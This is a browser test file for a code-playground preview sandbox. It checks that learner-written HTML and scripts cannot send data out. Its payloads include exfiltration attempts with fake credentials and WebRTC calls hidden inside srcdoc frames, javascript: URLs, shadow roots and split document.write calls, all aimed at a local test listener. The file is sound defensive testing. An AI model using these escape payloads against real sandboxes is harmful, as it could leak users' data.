import { expect } from '@open-wc/testing'
import { sendMouse } from '@web/test-runner-commands'
import type { SessionRunner } from './session-runner.js'
import { openListener, type ListenerReport } from '../test-support/listener.js'
import { outputLines, playground, sleep } from '../test-support/runner.js'

// A learner writes hostile HTML into the room's index.html and the instructor runs it: every way a
// page can reach out (leaving the preview, loading something, WebRTC) is tried against a listener
// on 127.0.0.1 that must hear nothing.

type Listener = Awaited<ReturnType<typeof openListener>>

/** Run `code` in the preview, give its escapes time to happen, and report what the listener got. */
async function attempt(code: (l: Listener) => string, opts: { language?: string; wait?: number; then?: (runner: SessionRunner) => Promise<void> } = {}) {
  const listener = await openListener()
  const runner = await playground(code(listener), opts.language ?? 'html', 4)
  const result = await runner.run()
  await opts.then?.(runner)
  await sleep(opts.wait ?? 1200)
  const report = await listener.close()
  return { runner, result, report }
}

/** A real click by the person looking at the preview, in its middle. */
async function clickPreview(runner: SessionRunner) {
  const frame = runner.shadowRoot!.querySelector('iframe')!
  frame.scrollIntoView({ block: 'center' })
  const box = frame.getBoundingClientRect()
  await sendMouse({ type: 'click', position: [Math.round(box.left + box.width / 2), Math.round(box.top + box.height / 2)] })
}

/** The whole preview is one big link or button, so a click anywhere lands on it. */
const COVER = 'style="position:fixed;inset:0;display:block;font-size:2rem"'

/** Text for an attribute value (srcdoc) written inside the learner's HTML. */
const attr = (s: string) => s.replace(/&/g, '&amp;').replace(/"/g, '&quot;')

/** The body of a javascript: URL whose result is `html` (the frame's new document). */
const jsUrlBody = (html: string) => `decodeURIComponent('${encodeURIComponent(encodeURIComponent(html).replace(/'/g, '%27'))}')`

/** Nothing at all: no request, no connection, no packet. */
function expectSilence(report: ListenerReport, what: string) {
  expect(report.requests, `${what}: requests`).to.deep.equal([])
  expect(report.connections, `${what}: TCP connections`).to.equal(0)
  expect(report.udp, `${what}: UDP packets`).to.equal(0)
}

/**
 * No request. Some attempts still make Chromium open (and drop) a TCP connection to the address,
 * before or without checking the frame's policy: a navigation when it starts (script, meta
 * refresh), a press on a link, `<link rel=preconnect>`. Nothing is sent on it, and nothing the page
 * can do stops it.
 */
function expectNoRequest(report: ListenerReport, what: string) {
  expect(report.requests, `${what}: requests`).to.deep.equal([])
  expect(report.udp, `${what}: UDP packets`).to.equal(0)
}

describe('<session-runner> preview: nothing leaves the sandbox', () => {
  it('a meta refresh does not take the preview to another page', async () => {
    const { report } = await attempt((l) => `<meta http-equiv="refresh" content="0;url=${l.http}/meta-refresh?typed=secret"><p>Wait…</p>`)
    expectNoRequest(report, 'meta refresh')
  })

  it('script cannot take the preview to another page (location, window.open on itself)', async function () {
    this.timeout(60_000)
    for (const go of ['location.href = URL', 'location.assign(URL)', 'location.replace(URL)', "window.open(URL, '_self')", 'document.location = URL']) {
      const { report } = await attempt((l) => `<p>Sign in</p><script>const URL = '${l.http}/script?via=' + encodeURIComponent(${JSON.stringify(go)}); ${go}</script>`)
      expectNoRequest(report, go)
    }
  })

  it('a link the viewer clicks does not open, whatever its target; links within the page still work', async function () {
    this.timeout(60_000)
    for (const target of ['', 'target="_blank"', 'target="_top"', 'target="_parent"']) {
      const { report } = await attempt((l) => `<a href="${l.http}/link" ${target} ${COVER}>Sign in to continue</a>`, { then: clickPreview })
      expectNoRequest(report, `link ${target || 'in the page'}`)
    }
    // (Clicked by the page itself: output after the page has loaded is not shown.)
    const { runner } = await attempt(() => `<a href="#end">Down</a><div style="height:3000px"></div><p id="end">End</p><script>document.querySelector('a').click(); console.log('at ' + location.hash + ', scrolled ' + (scrollY > 1000))</script>`, { wait: 0 })
    expect(outputLines(runner)).to.include('at #end, scrolled true')
  })

  it('a form sends nothing, submitted by script or by a click', async function () {
    this.timeout(40_000)
    const form = (l: Listener, rest: string) => `<form action="${l.http}/form" method="post"><input name="password" value="hunter2"><button ${COVER}>Sign in</button></form>${rest}`
    expectSilence((await attempt((l) => form(l, '<script>document.forms[0].submit()</script>'))).report, 'form.submit()')
    expectSilence((await attempt((l) => form(l, '<script>document.forms[0].requestSubmit()</script>'))).report, 'form.requestSubmit()')
    expectSilence((await attempt((l) => form(l, ''), { then: clickPreview })).report, 'a click on Sign in')
  })

  it('new windows, the parent and the top page cannot be opened or navigated', async () => {
    const { report, runner } = await attempt(
      (l) => `<script>
        for (const [name, go] of [
          ['window.open', () => window.open('${l.http}/open')],
          ['parent', () => { parent.location = '${l.http}/parent' }],
          ['top', () => { top.location = '${l.http}/top' }],
          ['parent.parent', () => { parent.parent.location.href = '${l.http}/grandparent' }],
        ]) { try { const r = go(); console.log(name + ': ' + (r === null ? 'refused' : 'no error')) } catch (e) { console.log(name + ': ' + e.name) } }
      </script>`,
    )
    expectSilence(report, 'window.open / parent / top')
    expect(outputLines(runner)).to.include('window.open: refused')
  })

  it('fetch, XHR, WebSocket, EventSource, beacons, images, scripts, styles, fonts, media, prefetch and workers send nothing', async () => {
    const { report, runner } = await attempt(
      (l) => `<link rel="stylesheet" href="${l.http}/style.css"><link rel="prefetch" href="${l.http}/prefetch">
      <link rel="modulepreload" href="${l.http}/preload.js"><script src="${l.http}/script.js"></script>
      <style>@import url('${l.http}/import.css'); @font-face { font-family: f; src: url('${l.http}/font.woff2') } body { font-family: f; background: url('${l.http}/bg.png') }</style>
      <img src="${l.http}/img.png"><img srcset="${l.http}/srcset.png 2x"><video src="${l.http}/video.mp4" autoplay muted></video><audio src="${l.http}/audio.mp3" autoplay></audio>
      <svg><image href="${l.http}/svg.png" width="10" height="10"></image></svg><input type="image" src="${l.http}/input.png">
      <object data="${l.http}/object"></object><embed src="${l.http}/embed">
      <a href="${l.http}/pinged" ping="${l.http}/ping" id="p">ping</a>
      <script type="speculationrules">{ "prefetch": [{ "source": "list", "urls": ["${l.http}/speculation"] }] }</script>
      <script>
        const report = (what) => (e) => console.log(what + ': ' + (e && e.name ? e.name : 'blocked'))
        fetch('${l.http}/fetch').then(() => console.log('fetch: open'), report('fetch'))
        const x = new XMLHttpRequest(); x.open('GET', '${l.http}/xhr'); x.onerror = report('xhr'); x.send()
        try { new WebSocket('${l.http.replace('http', 'ws')}/ws').onerror = report('ws') } catch (e) { report('ws')(e) }
        try { new EventSource('${l.http}/events').onerror = report('eventsource') } catch (e) { report('eventsource')(e) }
        try { navigator.sendBeacon('${l.http}/beacon', 'typed=secret') } catch (e) {}
        import('${l.http}/module.js').catch(report('import'))
        const w = new Worker(URL.createObjectURL(new Blob(["fetch('${l.http}/worker-fetch').catch(() => {}); try { importScripts('${l.http}/worker-import.js') } catch (e) {}"], { type: 'text/javascript' })))
        document.getElementById('p').click()
      </script>`,
      { wait: 1500 },
    )
    expectSilence(report, 'subresources')
    expect(outputLines(runner)).to.include.members(['fetch: TypeError', 'xhr: blocked'])
    const hints = await attempt((l) => `<link rel="preconnect" href="${l.http}"><link rel="dns-prefetch" href="${l.http}"><script>document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: '${l.http}/' }))</script>`)
    expectNoRequest(hints.report, 'preconnect and dns-prefetch')
  })

  it('WebRTC sends no packet, from the page or from any frame or shadow root it makes', async function () {
    this.timeout(90_000)
    const rtc = (l: Listener) => `(async () => {
      const PC = self.RTCPeerConnection || self.webkitRTCPeerConnection
      const pc = new PC({ iceServers: [{ urls: '${l.stun}' }, { urls: '${l.turn}', username: 'u', credential: 'p' }] })
      pc.createDataChannel('x')
      await pc.setLocalDescription(await pc.createOffer())
    })()`
    const S = '<' + '/script>'
    const inFrame = (l: Listener) => `<script>${rtc(l)}${S}`
    const esc = (l: Listener) => JSON.stringify(attr(inFrame(l))).replace(/</g, '\\u003c')
    // Each route, and what the preview says about it (proof the route was taken).
    const routes: Record<string, [(l: Listener) => string, string]> = {
      'the page itself': [(l) => `<script>${rtc(l)}</script>`, 'TypeError: PC is not a constructor'],
      'a srcdoc frame': [(l) => `<iframe srcdoc="${attr(inFrame(l))}"></iframe>`, 'leaves out <iframe>'],
      'a javascript: frame': [(l) => `<iframe src="javascript:${jsUrlBody(inFrame(l))}"></iframe>`, 'leaves out <iframe>'],
      'a frame made by script': [(l) => `<body><script>const f = document.createElement('iframe'); f.srcdoc = ${JSON.stringify(inFrame(l)).replace(/</g, '\\u003c')}; document.body.append(f)</script>`, 'leaves out <iframe>'],
      'a frame in a closed shadow root': [
        (l) => `<div id="h"></div><script>const root = h.attachShadow({ mode: 'closed' }); root.innerHTML = '<iframe srcdoc="' + ${esc(l)} + '"></iframe>'</script>`,
        'leaves out <iframe>',
      ],
      'a frame in a shadow root attached before the host is': [
        (l) => `<body><script>const d = document.createElement('div'); d.attachShadow({ mode: 'closed' }).innerHTML = '<iframe srcdoc="' + ${esc(l)} + '"></iframe>'; document.body.append(d)</script>`,
        'leaves out <iframe>',
      ],
      'a declarative shadow root': [(l) => `<div><template shadowrootmode="closed"><iframe srcdoc="${attr(inFrame(l))}"></iframe></template></div>`, 'does not show declarative shadow roots'],
      'document.write in pieces': [
        (l) => `<script>document.write('<div><template shadow'); document.write('rootmode="closed"><iframe srcdoc="' + ${esc(l)} + '"></iframe></template></div>')</script>`,
        'NotSupportedError',
      ],
      'setHTMLUnsafe': [
        (l) => `<div id="h"></div><script>h.setHTMLUnsafe('<template shadow' + 'rootmode="closed"><iframe srcdoc="' + ${esc(l)} + '"></iframe></template>'); console.log('the template ' + (h.querySelector('template') ? 'stayed a template' : 'became a shadow root'))</script>`,
        'the template stayed a template',
      ],
      'a frameset': [(l) => `<frameset><frame src="javascript:${jsUrlBody(inFrame(l))}"></frameset>`, 'leaves out <frame>'],
    }
    for (const [route, [code, said]] of Object.entries(routes)) {
      const { report, runner } = await attempt(code, { wait: 1500 })
      expectSilence(report, `WebRTC from ${route}`)
      expect(outputLines(runner).join('\n'), route).to.contain(said)
    }
  })

  it('JavaScript in the worker cannot reach the network or WebRTC', async () => {
    const { report, runner } = await attempt(
      (l) => `const report = (what) => (e) => console.log(what + ': ' + (e && e.name ? e.name : 'blocked'))
await fetch('${l.http}/fetch').then(() => console.log('fetch: open'), report('fetch'))
await new Promise((done) => { const x = new XMLHttpRequest(); x.open('GET', '${l.http}/xhr'); x.onerror = () => { report('xhr')(); done() }; x.send() })
await new Promise((done) => { const ws = new WebSocket('${l.http.replace('http', 'ws')}/ws'); ws.onerror = () => { report('ws')(); done() } })
try { importScripts('${l.http}/import.js') } catch (e) { report('importScripts')(e) }
await import('${l.http}/module.js').catch(report('import'))
try { new Worker('${l.http}/worker.js') } catch (e) { report('worker')(e) }
console.log('RTCPeerConnection: ' + typeof RTCPeerConnection)`,
      { language: 'javascript', wait: 500 },
    )
    expectSilence(report, 'worker')
    expect(outputLines(runner)).to.include.members(['fetch: TypeError', 'xhr: blocked', 'ws: blocked', 'importScripts: NetworkError', 'import: TypeError', 'RTCPeerConnection: undefined'])
  })

  it('the preview still renders HTML, CSS and inline scripts, and reports console output and errors with their lines', async () => {
    const runner = await playground(
      `<!doctype html>
<style>h1 { color: rgb(200, 0, 0); }</style>
<h1>Hello</h1>
<script>console.log('color', getComputedStyle(document.querySelector('h1')).color, document.compatMode)</script>
<button onclick="console.log('clicked')">Go</button>
<script>
  document.querySelector('button').click()
  document.body.append(Object.assign(document.createElement('p'), { textContent: 'added' }))
  console.warn('paragraphs', document.querySelectorAll('p').length)
  null.x
</script>`,
      'html',
    )
    const result = await runner.run()
    expect(outputLines(runner)).to.deep.equal(['color rgb(200, 0, 0) CSS1Compat', 'clicked', 'paragraphs 1', "line 10: TypeError: Cannot read properties of null (reading 'x')"])
    expect(result!.errors).to.equal(1)
    const frame = runner.shadowRoot!.querySelector('iframe')!
    expect(frame.getAttribute('sandbox')).to.equal('allow-scripts')
    expect(frame.getBoundingClientRect().height).to.be.greaterThan(100)
    await expect(runner).to.be.accessible()
  })
})
